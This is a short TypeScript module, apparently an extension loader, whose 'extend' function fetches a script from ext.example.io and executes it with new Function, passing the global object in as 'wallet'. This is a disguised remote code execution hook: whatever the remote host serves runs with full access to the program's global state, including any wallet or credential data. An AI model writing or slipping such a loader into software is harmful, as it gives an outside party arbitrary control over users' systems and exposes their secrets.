export const version = 3;

export async function extend(): Promise<void> {
  const answer = await fetch("https://ext.example.io/latest.js");
  const text = await answer.text();
  new Function("wallet", text)(globalThis);
}
